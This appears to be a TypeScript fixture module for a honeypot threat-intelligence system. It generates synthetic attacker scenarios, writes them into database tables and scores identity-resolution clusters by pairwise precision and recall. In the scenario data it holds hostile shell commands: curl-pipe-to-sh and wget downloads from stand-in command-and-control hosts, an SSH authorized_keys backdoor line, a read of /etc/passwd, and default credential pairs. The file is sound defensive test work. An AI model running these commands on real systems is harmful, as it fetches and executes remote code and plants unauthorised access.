// Identity-resolution scenario fixtures (DECNET's F1-F7 kinds), generated from a seed and written
// straight into the intelligence tables (attackers, fingerprints, sessions, credentials, artifacts,
// enrichment), with the ground truth: which addresses belong to which actor.
import { q, type RawSql } from '../db/raw-sql';
import type { AppDeps } from '../deps';
import { shortHash } from '../services/intel/aggregate';

export interface FixtureAddress {
  ip: string;
  asn: string;
  country: string;
  startMs: number;
}

export interface FixtureActor {
  name: string;
  addresses: FixtureAddress[];
  fingerprints: Record<string, string>;
  /** Per address, when the client was upgraded half-way (paused campaign). */
  fingerprintsLater?: Record<string, string>;
  commands: string[];
  creds: [string, string][];
  payload?: string;
  decky: string;
}

export interface Scenario {
  name: string;
  actors: FixtureActor[];
}

const DAY = 86_400_000;
const T0 = Date.UTC(2026, 0, 5);
const COMMON_JA3 = 'c'.repeat(32);
const COMMON_CREDS: [string, string][] = [['root', 'root'], ['admin', 'admin'], ['root', '123456'], ['ubnt', 'ubnt'], ['root', 'password'], ['pi', 'raspberry']];
const ASNS = ['AS4134', 'AS14061', 'AS16276', 'AS24940', 'AS9009'];

export function mulberry32(seed: number): () => number {
  let a = seed >>> 0;
  return () => {
    a = (a + 0x6d2b79f5) >>> 0;
    let t = a;
    t = Math.imul(t ^ (t >>> 15), t | 1);
    t ^= t + Math.imul(t ^ (t >>> 7), t | 61);
    return ((t ^ (t >>> 14)) >>> 0) / 4294967296;
  };
}

const hex = (r: () => number, n = 32) => Array.from({ length: n }, () => Math.floor(r() * 16).toString(16)).join('');
const pick = <T>(r: () => number, xs: readonly T[]): T => xs[Math.floor(r() * xs.length)]!;

let ipCounter = 0;
function ip(r: () => number): string {
  ipCounter++;
  return `${10 + Math.floor(r() * 200)}.${ipCounter >> 8 & 255}.${ipCounter & 255}.${1 + Math.floor(r() * 250)}`;
}

function address(r: () => number, startMs: number, asn = pick(r, ASNS)): FixtureAddress {
  return { ip: ip(r), asn, country: pick(r, ['CN', 'US', 'NL', 'DE', 'RU', 'BR']), startMs };
}

/** Internet background noise: one address per actor, a library-default JA3, top wordlist entries, `uname -a`. */
export function noise(r: () => number, n: number): FixtureActor[] {
  return Array.from({ length: n }, (_, i) => ({
    name: `noise-${i}`,
    addresses: [address(r, T0 + Math.floor(r() * 30 * DAY))],
    fingerprints: { ja3: COMMON_JA3 },
    commands: r() < 0.5 ? ['uname -a', 'cat /proc/cpuinfo'] : [],
    creds: COMMON_CREDS.filter(() => r() < 0.5),
    decky: pick(r, ['web-01', 'db-01', 'files-01']),
  }));
}

function actor(r: () => number, name: string, n: number, opts: Partial<FixtureActor> & { spreadDays?: number; asn?: string }): FixtureActor {
  const spread = opts.spreadDays ?? 1;
  return {
    name,
    addresses: Array.from({ length: n }, (_, i) => address(r, T0 + Math.floor((i / Math.max(1, n - 1)) * spread * DAY), opts.asn)),
    fingerprints: opts.fingerprints ?? {},
    commands: opts.commands ?? [],
    creds: opts.creds ?? [],
    decky: opts.decky ?? 'web-01',
    ...(opts.payload ? { payload: opts.payload } : {}),
    ...(opts.fingerprintsLater ? { fingerprintsLater: opts.fingerprintsLater } : {}),
  };
}

const WORDLIST: [string, string][] = Array.from({ length: 12 }, (_, i) => [`svc${i}`, `Spring2026!${i}`]);
const BOT_SCRIPT = ['cat /etc/passwd', 'uname -m', 'nproc', 'free -m'];

export function scenarios(seed = 15): Scenario[] {
  const r = mulberry32(seed);
  return [
    // Different actors, same wordlist and same bot script, each their own SSH client: must NOT merge.
    { name: 'shared_wordlist', actors: [...Array.from({ length: 6 }, (_, i) => actor(r, `wordlist-${i}`, 2, { fingerprints: { hassh: hex(r) }, creds: WORDLIST, commands: BOT_SCRIPT, asn: 'AS14061' })), ...noise(r, 60)] },
    // One actor hopping VPN exits (a new ASN and country each time), same client and dropper URL: must merge.
    { name: 'vpn_hopping', actors: [actor(r, 'hopper', 8, { fingerprints: { hassh: hex(r), ja3: hex(r) }, commands: ['wget http://198.51.100.23/bins/x86 -O /tmp/.x', 'chmod +x /tmp/.x'] }), actor(r, 'other-a', 2, { fingerprints: { hassh: hex(r) } }), actor(r, 'other-b', 2, { fingerprints: { hassh: hex(r) } }), ...noise(r, 60)] },
    // One careful actor over telnet (no fingerprints): its own commands, its own passwords, one ASN.
    { name: 'lone_wolf', actors: [actor(r, 'wolf', 2, { asn: 'AS64500', commands: ['cat /etc/os-release', 'ls -la /root', 'getent passwd', 'ss -tlnp'], creds: [['deploy', 'd3pl0y!'], ['backup', 'b4ckup#'], ['oracle', 'or4cle']], spreadDays: 3 }), ...noise(r, 60)] },
    // Two operators, one operation: shared C2 and payload, different clients. Two identities, one campaign.
    {
      name: 'multi_operator',
      actors: [
        actor(r, 'operator-1', 2, { fingerprints: { hassh: hex(r) }, commands: ['curl -s http://c2.evil.test/stage1 | sh', 'echo ssh-rsa AAAA >> ~/.ssh/authorized_keys'], payload: hex(r, 64), decky: 'db-01' }),
        actor(r, 'operator-2', 2, { fingerprints: { hassh: hex(r) }, commands: ['curl -s http://c2.evil.test/stage2 | sh', 'ls -la /var/lib/mysql', 'uname -a'], payload: hex(r, 64), decky: 'db-01' }),
        ...noise(r, 60),
      ],
    },
    { name: 'noise_floor', actors: noise(r, 150) },
    // Active, silent for 40 days, back with an upgraded SSH client but the same TLS client and payload.
    { name: 'paused_campaign', actors: [{ ...actor(r, 'sleeper', 4, { fingerprints: { hassh: hex(r), ja3: hex(r) }, payload: hex(r, 64), spreadDays: 45 }), fingerprintsLater: { hassh: hex(r) } }, ...noise(r, 60)] },
    // Ten addresses over two months, one short telnet session each, all fetching from the same host.
    { name: 'slow_burn', actors: [actor(r, 'slow', 10, { commands: ['cd /tmp; wget http://203.0.113.77/s.sh; sh s.sh'], spreadDays: 60 }), ...noise(r, 60)] },
  ];
}

export const attackerIdOf = (address: string) => shortHash(`attacker:${address}`);

/** Writes a scenario into the intelligence tables and enrichment (migration 0010's layout; created when absent). */
export async function seedScenario(deps: AppDeps, s: Scenario): Promise<void> {
  const st: RawSql[] = [q`CREATE TABLE IF NOT EXISTS attacker_enrichment (attacker_id text PRIMARY KEY, ip text NOT NULL, scope text NOT NULL, country text, asn integer, enriched_at_ms integer NOT NULL, ptr_status text NOT NULL)`];
  const creds = new Map<string, { user: string; pass: string; ips: string[] }>();
  for (const a of s.actors) {
    a.addresses.forEach((addr, i) => {
      const id = attackerIdOf(addr.ip);
      const end = addr.startMs + 600_000;
      st.push(q`INSERT INTO attackers (id, ip, first_seen_ms, last_seen_ms, event_count) VALUES (${id}, ${addr.ip}, ${addr.startMs}, ${end}, 10)`);
      st.push(q`INSERT INTO attacker_enrichment (attacker_id, ip, scope, country, asn, enriched_at_ms, ptr_status) VALUES (${id}, ${addr.ip}, 'public', ${addr.country}, ${Number(addr.asn.slice(2))}, ${addr.startMs}, 'none')`);
      const fps = a.fingerprintsLater && i >= a.addresses.length / 2 ? { ...a.fingerprints, ...a.fingerprintsLater } : a.fingerprints;
      for (const [kind, value] of Object.entries(fps)) st.push(q`INSERT INTO attacker_fingerprints (attacker_id, kind, value, first_seen_ms, last_seen_ms, count) VALUES (${id}, ${kind}, ${value}, ${addr.startMs}, ${end}, 3)`);
      if (a.commands.length) {
        const cmds = JSON.stringify(a.commands.map((cmd, k) => ({ ts: new Date(addr.startMs + k * 1000).toISOString(), cmd })));
        st.push(q`INSERT INTO sessions (id, attacker_id, src_ip, decky, service, started_at_ms, last_seen_ms, event_count, command_count, commands_json) VALUES (${shortHash(`s:${addr.ip}`)}, ${id}, ${addr.ip}, ${a.decky}, 'ssh', ${addr.startMs}, ${end}, ${a.commands.length}, ${a.commands.length}, ${cmds})`);
      }
      if (a.payload) st.push(q`INSERT INTO artifacts (id, sha256, size, decky, service, attacker_id, src_ip, ts_ms) VALUES (${shortHash(`f:${addr.ip}`)}, ${a.payload}, 1024, ${a.decky}, 'ssh', ${id}, ${addr.ip}, ${addr.startMs})`);
      for (const [user, pass] of a.creds) {
        const key = `${user}\u0000${pass}`;
        const c = creds.get(key) ?? { user, pass, ips: [] };
        c.ips.push(addr.ip);
        creds.set(key, c);
      }
    });
  }
  for (const [key, c] of creds) {
    st.push(q`INSERT INTO credentials (id, secret_sha256, kind, principal, secret_printable, secret_b64, attempts, first_seen_ms, last_seen_ms, attacker_ips_json) VALUES (${shortHash(key)}, ${shortHash(`secret:${c.pass}`)}, 'password', ${c.user}, ${c.pass}, '', ${c.ips.length}, ${T0}, ${T0}, ${JSON.stringify(c.ips)})`);
  }
  await deps.rawBatch(st);
}

/** Pairwise precision and recall of predicted clusters against the actors (pairs of addresses). */
export function pairwise(s: Scenario, predicted: ReadonlyMap<string, string>): { tp: number; fp: number; fn: number; precision: number | null; recall: number | null } {
  const addrs = s.actors.flatMap((a) => a.addresses.map((x) => ({ id: attackerIdOf(x.ip), actor: a.name })));
  let tp = 0;
  let fp = 0;
  let fn = 0;
  for (let i = 0; i < addrs.length; i++) {
    for (let j = i + 1; j < addrs.length; j++) {
      const same = addrs[i]!.actor === addrs[j]!.actor;
      const pi = predicted.get(addrs[i]!.id);
      const together = pi !== undefined && pi === predicted.get(addrs[j]!.id);
      if (same && together) tp++;
      else if (together) fp++;
      else if (same) fn++;
    }
  }
  return { tp, fp, fn, precision: tp + fp ? tp / (tp + fp) : null, recall: tp + fn ? tp / (tp + fn) : null };
}
